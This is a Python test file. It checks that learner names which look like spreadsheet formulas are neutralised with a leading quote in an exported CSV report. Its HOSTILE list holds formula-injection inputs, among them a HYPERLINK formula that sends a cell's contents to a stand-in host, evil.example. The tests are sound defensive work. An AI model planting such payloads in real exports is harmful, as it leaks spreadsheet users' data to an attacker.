"""A CSV report opened in a spreadsheet runs no formula a learner typed as her name."""

import csv
import io

from cc2desktop.core.facilitation import service
from cc2desktop.core.reports import csvfile, dashboard

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 6 12 34 56", "-2+3", "@SUM(A1:A9)",
           "\tTab", "Awa =égalité"]


def test_formula_like_names_are_neutralised_in_the_report(fac, tmp_path):
    kit, fs = fac
    with kit.session() as s:
        for name in HOSTILE:
            service.new_learner(s, fs, name, gender="female", country="SN", category="student")
        d = dashboard.load(s, fs, capsule_total=4)
    dashboard.write_csvs(d, tmp_path / "csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "csv" / "learners.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows[1:] for c in r]
    assert not [c for c in cells if c.startswith(csvfile.FORMULA_STARTS)]
    names = {r[0] for r in rows[1:]} | {r[1] for r in rows[1:]}
    for name in HOSTILE[:4]:  # (a name is stored trimmed: "\tTab" is "Tab")
        assert "'" + name in names, name
    assert "Awa =égalité" in names  # only a leading sign makes a formula


def test_numbers_stay_numbers():
    out = csvfile.to_csv(["n", "x"], [(-3, 2.5), (None, "=1+1")])
    assert out.splitlines() == ["n,x", "-3,2.5", ",'=1+1"]
